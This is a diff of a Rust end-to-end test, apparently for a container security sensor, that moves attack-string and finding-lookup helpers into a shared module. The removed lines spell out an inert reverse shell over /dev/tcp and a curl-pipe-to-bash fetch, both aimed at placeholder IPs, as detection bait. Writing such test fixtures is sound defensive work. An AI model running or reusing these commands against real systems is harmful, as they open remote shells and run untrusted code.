@@ -12,11 +12,11 @@ use std::{
 use e2e::{
     cgroup::{Cgroup, enter},
     daemon::{patience, scaled},
+    drill::{malice, property},
     node::Node,
     shell::quiet,
     terminal::Terminal,
 };
-use serde_json::Value;
 
 const POD: &str = "kubepods/burstable/pod6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f71";
 /// How long a shell may take whose sensor hangs: the deadline (50 ms), what the second process waits on top, and what a test's
@@ -38,10 +38,7 @@ fn wait_for_holds(node: &Node, cgroup: &Cgroup) {
 
 /// Malicious by any model, and inert: `:` runs instead. Its first command makes the file `marker`.
 fn attack(name: &str, marker: &Path) -> String {
-    format!(
-        "echo > {}; : || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{name} | bash\n",
-        marker.display()
-    )
+    format!("echo > {}; {}\n", marker.display(), malice(name))
 }
 
 /// A command in the container. Nobody that the test's shell is a job of is to notice a stop.
@@ -50,16 +47,6 @@ fn inside(cgroup: &Cgroup, program: &str, args: &[&str]) -> Command {
     command.args(args);
     enter(&mut command, &cgroup.procs());
     command
-}
-
-fn property<'a>(findings: &'a [Value], name: &str, key: &str) -> &'a Value {
-    let is_it = |finding: &&Value| {
-        let text = finding["processes"][0]["script"]["contents"].as_str();
-        text.is_some_and(|text| text.contains(&format!("192.0.2.7/{name} ")))
-    };
-    let finding =
-        findings.iter().find(is_it).unwrap_or_else(|| panic!("no finding of {name}: {findings:#?}"));
-    &finding["sourceProperties"][key]
 }
 
 /// The state of a process as /proc has it, `None` when it is gone.
